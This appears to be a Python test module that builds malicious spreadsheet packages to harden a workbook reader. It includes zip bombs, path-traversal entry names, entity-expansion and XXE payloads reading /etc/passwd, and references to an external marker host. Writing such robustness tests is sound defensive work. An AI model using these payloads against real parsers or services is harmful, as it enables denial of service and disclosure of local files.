"""Attacks on the package: the zip, its names, the XML of each part, a hundred thousand of everything, relationships."""

from __future__ import annotations

import bz2
import io
import struct
import zipfile
import zlib
from functools import cache, partial

import sealed
from attacks import MARK, Attacks
from workbook_samples import parts, zipped

ATTACKS = Attacks("The package")
add, attack = ATTACKS.add, ATTACKS.attack

MANY = 100_000
SHEET = "xl/worksheets/sheet6.xml"
"""Matriks, in the workbook that is attacked: the filled example, with charts, links and the tool's own sheets."""
BOOK, STYLES, STRINGS, TYPES = "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml", "[Content_Types].xml"
BOOK_RELS, DRAWING = "xl/_rels/workbook.xml.rels", "xl/drawings/drawing1.xml"
READ = (TYPES, "_rels/.rels", BOOK, BOOK_RELS, SHEET, "xl/worksheets/sheet9.xml", STRINGS, STYLES, DRAWING, "xl/charts/chart1.xml",
        "xl/worksheets/_rels/sheet9.xml.rels", "docProps/app.xml")  # fmt: skip
"""The parts that are read, or rewritten, by one command or another."""


@cache
def sound() -> dict[str, bytes]:
    return parts(sealed.workbook())


def package(new: dict[str, bytes]) -> bytes:
    """The workbook with these parts in place of its own, or beside them."""
    return zipped({**sound(), **new})


def edited(part: str, old: str, new: str) -> bytes:
    """The workbook with the first ``old`` in a part replaced."""
    content = sound()[part]
    assert old.encode() in content, (part, old)
    return package({part: content.replace(old.encode(), new.encode(), 1)})


# ---- the zip


def zeros(megabytes: int) -> bytes:
    """So many MiB of zeros as deflate holds them, made without making them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block + again * (megabytes - 1) + packer.flush()


def with_entry(name: str, packed: bytes, size: int, crc: int = 0, **flags: int) -> bytes:
    """The workbook with one more entry, whose header says what it is told to say."""
    data = package({})
    end = data.rindex(b"PK\x05\x06")
    count, _, start = struct.unpack("<H2L", data[end + 10 : end + 20])
    method, flag = flags.get("method", zipfile.ZIP_DEFLATED), flags.get("flag", 0)
    common = (20, flag, method, 0, 33, crc, len(packed), size, len(name.encode()), 0)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", *common) + name.encode() + packed
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *common, 0, 0, 0, 0, start) + name.encode()
    listing = data[start:end] + central
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(listing), start + len(local), 0)
    return data[:start] + local + listing + tail


add("zip-flat", "a zip bomb: one part of 2 GiB of zeros", lambda: with_entry("xl/media/a.png", zeros(2048), 2048 << 20))
add(
    "zip-ratio",
    "a zip bomb below every size: 200 MiB of zeros",
    lambda: with_entry("xl/media/a.png", zeros(200), 200 << 20),
)
add(
    "zip-lies",
    "a part that says it has 100 bytes, and unpacks to 300 MiB",
    lambda: with_entry("xl/media/a.png", zeros(300), 100),
)


@attack("zip-lies-sheet", "Matriks itself says it has 100 bytes, and unpacks to 300 MiB")
def _lies_sheet() -> bytes:
    data = bytearray(zipped({**sound(), SHEET: b" " * 200}))
    at = data.index(SHEET.encode()) - 30
    assert data[at : at + 4] == b"PK\x03\x04"
    packed = zeros(300)
    old = struct.unpack("<L", data[at + 18 : at + 22])[0]
    body = at + 30 + len(SHEET)
    grown = data[:body] + packed + data[body + old :]
    more = len(packed) - old
    grown[at + 18 : at + 22] = struct.pack("<L", len(packed))
    end = grown.rindex(b"PK\x05\x06")
    start = struct.unpack("<L", grown[end + 16 : end + 20])[0] + more
    grown[end + 16 : end + 20] = struct.pack("<L", start)
    place = start
    while grown[place : place + 4] == b"PK\x01\x02":
        names, extra, said = struct.unpack("<3H", grown[place + 28 : place + 34])
        offset = struct.unpack("<L", grown[place + 42 : place + 46])[0]
        if offset == at:
            grown[place + 20 : place + 24] = struct.pack("<L", len(packed))
        elif offset > at:
            grown[place + 42 : place + 46] = struct.pack("<L", offset + more)
        place += 46 + names + extra + said
    return bytes(grown)


@attack("zip-nested", "a zip in a zip in a zip, nine deep, beside the parts")
def _nested() -> bytes:
    inner = package({})
    for _ in range(9):
        inner = zipped({f"{number}.zip": inner for number in range(4)})[: 4 << 20]
    return package({"xl/embeddings/a.zip": inner})


@attack("zip-overlap", "a zip bomb whose entries share their bytes")
def _overlap() -> bytes:
    data = package({})
    end = data.rindex(b"PK\x05\x06")
    count, _, start = struct.unpack("<H2L", data[end + 10 : end + 20])
    listing = data[start:end]
    place, first = 0, b""
    while listing[place : place + 4] == b"PK\x01\x02":
        names, extra, said = struct.unpack("<3H", listing[place + 28 : place + 34])
        entry = listing[place : place + 46 + names + extra + said]
        if SHEET.encode() in entry:
            first = entry
        place += len(entry)
    more = b"".join(first.replace(b"sheet6.xml", f"x{n:04}6.xml".encode()[-10:]) for n in range(2000))
    whole = listing + more
    return (
        data[:start]
        + whole
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 2000, count + 2000, len(whole), start, 0)
    )


def _names(*new: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in sound().items():
            archive.writestr(name, data)
        for name in new:
            entry = zipfile.ZipInfo("x")
            entry.filename = name
            archive.writestr(entry, b"<a/>")
    return out.getvalue()


add("zip-many", "20,000 parts", lambda: _names(*(f"xl/media/{n}.png" for n in range(20_000))))
for _name, _path in {
    "zip-absolute": "/etc/serangan.xml", "zip-dots": "xl/../../../serangan.xml", "zip-backslash": "xl\\..\\..\\serangan.xml",
    "zip-drive": "C:\\serangan.xml", "zip-unc": "\\\\server\\serangan.xml", "zip-twice": SHEET, "zip-case": SHEET.upper(),
    "zip-long-name": "xl/" + "a" * 60_000,
}.items():  # fmt: skip
    add(
        _name, f"a part called `{_path[:40]}`{' (once more)' if _path.lower() == SHEET else ''}", partial(_names, _path)
    )
add("zip-encrypted", "an entry marked as encrypted", lambda: with_entry("xl/media/a.png", b"abc", 3, flag=1))
add(
    "zip-method",
    "an entry packed in a way that nobody knows",
    lambda: with_entry("xl/media/a.png", b"abc", 3, method=99),
)
add(
    "zip-bzip2",
    "a part packed by bzip2 that says it has 100 bytes, and unpacks to 700 MiB",
    lambda: with_entry("xl/media/a.png", bz2.compress(bytes(700 << 20)), 100, method=zipfile.ZIP_BZIP2),
)
add(
    "zip-crc",
    "an entry whose checksum is wrong",
    lambda: with_entry("xl/media/a.png", zlib.compress(b"abc", wbits=-15), 3, 7),
)
add("zip-prefix", "a program in front of the zip (self-extracting)", lambda: b"MZ" + bytes(5000) + package({}))
add("zip-appended", "a second zip appended", lambda: package({}) + zipped({"a": b"b"}))
add("zip-comment", "a comment of 65,535 bytes", lambda: package({})[:-2] + b"\xff\xff" + b"c" * 65_535)
add("zip-cut", "the last byte is missing", lambda: package({})[:-1])
add("zip-directory", "only an empty directory of entries", lambda: b"PK\x05\x06" + bytes(18))

# ---- XML: entities, encodings, depth, size


def _root_end(part: bytes) -> int:
    start = part.index(b"?>") + 2 if part.startswith(b"<?xml") else 0
    return part.index(b">", part.index(b"<", start)) + 1


def with_dtd(part: str, dtd: str, use: str, encoding: str = "utf-8") -> bytes:
    """The workbook with a document type in front of a part's root, and ``use`` as the first thing in it."""
    content = sound()[part]
    start = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
    end = _root_end(content)
    root = content[start:end].decode().strip()
    if root.endswith("/>"):
        root = root[:-2] + ">"
    name = root[1:].split()[0].rstrip(">")
    text = f"<!DOCTYPE {name} [{dtd}]>{root}{use}{content[end:].decode()}"
    return package({part: f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(encoding)})


LAUGHS = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
QUADRATIC = f'<!ENTITY a "{"a" * 50_000}">'
OUTSIDE = '<!ENTITY a SYSTEM "file:///etc/passwd">'
for _part in READ:
    _short = _part.rpartition("/")[2]
    add(f"entities-{_short}", f"exponential entities in {_part}", partial(with_dtd, _part, LAUGHS, "&j;"))
for _part in (BOOK, SHEET, STRINGS, STYLES):
    _short = _part.rpartition("/")[2]
    add(
        f"quadratic-{_short}",
        f"an entity of 50,000 characters used 20,000 times in {_part}",
        partial(with_dtd, _part, QUADRATIC, "&a;" * 20_000),
    )
    add(
        f"external-{_short}",
        f"an entity that names a file of the machine, in {_part}",
        partial(with_dtd, _part, OUTSIDE, "&a;"),
    )
    add(
        f"dtd-utf16-{_short}",
        f"exponential entities in {_part}, in UTF-16",
        partial(with_dtd, _part, LAUGHS, "&j;", "utf-16"),
    )
add(
    "dtd-external",
    "a document type that names a server",
    lambda: edited(SHEET, "<worksheet ", f'<!DOCTYPE worksheet SYSTEM "http://{MARK}/a.dtd"><worksheet '),
)
add(
    "xinclude",
    "an XInclude that names a file of the machine",
    lambda: edited(
        SHEET,
        "<sheetData>",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><sheetData>',
    ),
)
add(
    "stylesheet",
    "a processing instruction that names a style sheet on a server",
    lambda: edited(SHEET, "<worksheet ", f'<?xml-stylesheet type="text/xsl" href="http://{MARK}/a.xsl"?><worksheet '),
)
for _part in (SHEET, STRINGS, STYLES, BOOK, DRAWING, BOOK_RELS):
    _short = _part.rpartition("/")[2]

    def _deep(part: str = _part) -> bytes:
        end = _root_end(sound()[part])
        return package({part: sound()[part][:end] + b"<a>" * MANY + b"</a>" * MANY + sound()[part][end:]})

    def _wide(part: str = _part) -> bytes:
        end = _root_end(sound()[part]) - 1
        return package({part: sound()[part][:end] + b' a="' + b"x" * (8 << 20) + b'"' + sound()[part][end:]})

    def _attributes(part: str = _part) -> bytes:
        end = _root_end(sound()[part]) - 1
        many = " ".join(f'a{n}="1"' for n in range(MANY)).encode()
        return package({part: sound()[part][:end] + b" " + many + sound()[part][end:]})

    add(f"deep-{_short}", f"100,000 elements, each in the other, in {_part}", _deep)
    add(f"wide-{_short}", f"an attribute of 8 MiB in {_part}", _wide)
    add(f"attributes-{_short}", f"100,000 attributes on the root of {_part}", _attributes)
add(
    "namespaces",
    "100,000 namespaces declared in Matriks",
    lambda: edited(SHEET, "<worksheet ", "<worksheet " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(MANY)) + " "),
)
add(
    "comment-xml",
    "a comment of 8 MiB with dashes in Matriks",
    lambda: edited(SHEET, "<sheetData>", "<!--" + "- " * (4 << 20) + "--><sheetData>"),
)
add(
    "cdata",
    "the rows of Matriks as CDATA",
    lambda: edited(SHEET, "<sheetData>", "<sheetData><![CDATA[<row r='1'><c r='A1'/></row>]]>"),
)
for _code in ("utf-7", "ebcdic-cp-us", "utf-32", "x-tidak-ada"):
    add(
        f"encoding-{_code}",
        f"Matriks says that it is written in {_code}",
        partial(edited, SHEET, 'encoding="UTF-8"', f'encoding="{_code}"'),
    )
add(
    "latin-bytes",
    "bytes in Matriks that are no UTF-8",
    lambda: package({SHEET: sound()[SHEET].replace(b"<sheetData>", b"<sheetData>\xff\xfe", 1)}),
)
add("nul-bytes", "zero bytes in the texts", lambda: package({STRINGS: sound()[STRINGS].replace(b"<t>", b"<t>\x00", 1)}))
add(
    "control",
    "control characters and lone surrogates written as numbers",
    lambda: edited(STRINGS, "<t>", "<t>&#1;&#xD800;&#xFFFF;"),
)
for _part in READ:
    add(f"empty-{_part.rpartition('/')[2]}", f"{_part} is empty", partial(package, {_part: b""}))
add("other-root", "Matriks is a chart", lambda: package({SHEET: sound()["xl/charts/chart1.xml"]}))

# ---- a hundred thousand of everything


def many(part: str, place: str, element: str, count: int = MANY, before: str = "", after: str = "") -> bytes:
    """``element`` (with ``{n}`` and ``{row}``) so many times in front of ``place``."""
    made = "".join(element.replace("{n}", str(n)).replace("{row}", str(n + 200)) for n in range(count))
    return edited(part, place, before + made + after + place)


for _name, _words, _arguments in (
    ("many-sheets", "100,000 sheets in the list, all of one part", (BOOK, "</sheets>", '<sheet name="s{n}" sheetId="{row}" r:id="rId1"/>')),
    ("many-names", "100,000 defined names", (BOOK, "</definedNames>", '<definedName name="n{n}">Matriks!$A$1</definedName>')),
    ("many-formats", "100,000 cell formats", (STYLES, "</cellXfs>", '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>')),
    ("many-fonts", "100,000 fonts", (STYLES, "</fonts>", '<font><sz val="{n}"/></font>')),
    ("many-dxfs", "100,000 conditional looks", (STYLES, "</dxfs>", "<dxf><font><b/></font></dxf>")),
    ("many-numfmts", "100,000 number formats", (STYLES, "</numFmts>", '<numFmt numFmtId="{row}" formatCode="0.{n}"/>')),
    ("many-strings", "1,000,000 texts that nobody uses", (STRINGS, "</sst>", "<si><t>x{n}</t></si>", 1_000_000)),
    ("many-conditions", "100,000 conditional formats", (SHEET, "<dataValidations ",
     '<conditionalFormatting sqref="A{row}"><cfRule type="expression" priority="{row}"><formula>1</formula></cfRule></conditionalFormatting>')),
    ("many-validations", "100,000 validations", (SHEET, "</dataValidations>", '<dataValidation type="whole" sqref="Z{row}"><formula1>1</formula1></dataValidation>')),
    ("many-rows", "100,000 rows with nothing in them", (SHEET, "</sheetData>", '<row r="{row}"/>')),
    ("many-styled", "100,000 blank cells with a style below the form", (SHEET, "</sheetData>", '<row r="{row}"><c r="A{row}" s="1"/></row>')),
    ("many-spaces", "100,000 cells below the form that hold one space", (SHEET, "</sheetData>", '<row r="{row}"><c r="C{row}" t="inlineStr"><is><t xml:space="preserve"> </t></is></c></row>')),
    ("many-rows-named", "100,000 sub kegiatan below the form, all of one name", (SHEET, "</sheetData>",
     '<row r="{row}"><c r="C{row}" t="inlineStr"><is><t>Sub kegiatan</t></is></c><c r="M{row}"><v>1</v></c></row>')),
    ("many-columns", "20,000 definitions of columns", (SHEET, "</cols>", '<col min="{row}" max="{row}" width="9"/>', 20_000)),
    ("many-cells", "20,000 cells in one row", (SHEET, "</sheetData>", '<c r="A500"><v>{n}</v></c>', 20_000, '<row r="500">', "</row>")),
    ("many-shared", "100,000 cells that share a formula", (SHEET, "</sheetData>",
     '<row r="{row}"><c r="Z{row}"><f t="shared" si="7"/><v>1</v></c></row>')),
    ("many-relations", "100,000 relationships of the workbook", (BOOK_RELS, "</Relationships>",
     '<Relationship Id="x{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/{n}.png"/>')),
    ("many-types", "100,000 content types", (TYPES, "</Types>", '<Override PartName="/xl/x{n}.xml" ContentType="application/xml"/>')),
    ("many-anchors", "20,000 pictures in a drawing", (DRAWING, "</xdr:wsDr>",
     '<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="1" cy="1"/><xdr:clientData/></xdr:absoluteAnchor>', 20_000)),
):  # fmt: skip
    add(_name, _words, partial(many, *_arguments))  # type: ignore[arg-type]


@attack("many-merged", "100,000 merged ranges in Matriks")
def _merged() -> bytes:
    merged = "".join(f'<mergeCell ref="X{n}:Y{n}"/>' for n in range(1, MANY + 1))
    return edited(SHEET, "</sheetData>", f'</sheetData><mergeCells count="{MANY}">{merged}</mergeCells>')


@attack("merged-whole", "one merged range over the whole sheet")
def _merged_whole() -> bytes:
    return edited(
        SHEET, "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )


@attack("merged-overlapping", "2,000 merged ranges, each over all the others")
def _merged_overlapping() -> bytes:
    merged = "".join(f'<mergeCell ref="A1:XFD{n}"/>' for n in range(2, 2002))
    return edited(SHEET, "</sheetData>", f'</sheetData><mergeCells count="2000">{merged}</mergeCells>')


@attack("ranges-whole", "a validation and a condition of 5,000 ranges, each the whole sheet")
def _ranges() -> bytes:
    whole = " ".join(["A1:XFD1048576"] * 5000)
    data = edited(SHEET, 'sqref="A7:A87"', f'sqref="{whole}"')
    content = parts(data)[SHEET].replace(b'sqref="A7:V87"', f'sqref="{whole}"'.encode(), 1)
    return package({SHEET: content})


@attack("declared-large", "Matriks says that it has 16,384 columns and 1,048,576 rows")
def _declared() -> bytes:
    return edited(SHEET, '<dimension ref="A1:V88"/>', '<dimension ref="A1:XFD1048576"/>')


@attack("far-cell", "a cell in the last column of the last row")
def _far() -> bytes:
    return edited(SHEET, "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


# ---- relationships

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str, mode: str = "") -> bytes:
    """The workbook with one more relationship of its sheet Ringkasan and of the workbook."""
    more = f'<Relationship Id="rId999" Type="{_RELATION}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    own = "xl/worksheets/_rels/sheet9.xml.rels"
    return package({name: sound()[name].replace(b"</Relationships>", more, 1) for name in (own, BOOK_RELS)})


_EXTERNAL = ' TargetMode="External"'
for _name, _words, _arguments in (
    ("related-self", "a sheet that is its own drawing", ("drawing", "/xl/worksheets/sheet9.xml")),
    ("related-missing", "relationships to parts that are not there", ("drawing", "/xl/drawings/tiada.xml")),
    ("related-outside", "a relationship to /etc/passwd by many ..", ("image", "../../../../../../etc/passwd")),
    ("related-file", "an external relationship to a file of the machine", ("image", "file:///etc/passwd", _EXTERNAL)),
    ("related-unc", "an external relationship to a server (UNC)", ("image", rf"\\{MARK}\bagi\a.png", _EXTERNAL)),
    ("related-http", "an external picture and template on a server", ("attachedTemplate", f"http://{MARK}/a.dotm", _EXTERNAL)),
    ("related-sheet-outside", "a worksheet that is on a server", ("worksheet", f"http://{MARK}/sheet.xml", _EXTERNAL)),
    ("related-twice", "two relationships of one Id", ("worksheet", "worksheets/sheet1.xml")),
):  # fmt: skip
    add(_name, _words, partial(related, *_arguments))


@attack("related-circle", "a drawing that leads to a chart that leads back to the drawing")
def _circle() -> bytes:
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="%s/drawing" Target="%s"/></Relationships>'
    back = (_RELATION.encode(), b"/xl/drawings/drawing1.xml")
    return package({"xl/charts/_rels/chart1.xml.rels": rels % back, "xl/charts/_rels/chart2.xml.rels": rels % back})


@attack("workbook-outside", "the workbook part itself is said to be on a server")
def _outside() -> bytes:
    return edited("_rels/.rels", 'Target="xl/workbook.xml"', f'Target="http://{MARK}/workbook.xml"{_EXTERNAL}')


@attack("workbook-twice", "two workbook parts")
def _twice() -> bytes:
    second = f'<Relationship Id="rId99" Type="{_RELATION}/officeDocument" Target="xl/worksheets/sheet1.xml"/></Relationships>'
    return edited("_rels/.rels", "</Relationships>", second)


@attack("sheets-without-parts", "Matriks is in the list of sheets, and its part is gone")
def _gone() -> bytes:
    return zipped({name: data for name, data in sound().items() if name != SHEET})


@attack("sheet-twice", "two sheets of one name, and one without a name")
def _sheet_twice() -> bytes:
    return edited(
        BOOK,
        "</sheets>",
        '<sheet name="Matriks" sheetId="77" r:id="rId1"/><sheet name="" sheetId="78" r:id="rId2"/></sheets>',
    )


@attack("macros", "a workbook with a macro (its part holds bytes of our own)", file="serangan.xlsm")
def _macros() -> bytes:
    types = sound()[TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ).replace(b"</Types>", b'<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')  # fmt: skip
    rels = sound()[BOOK_RELS].replace(
        b"</Relationships>", b'<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
    )  # fmt: skip
    return package({TYPES: types, BOOK_RELS: rels, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(5000)})
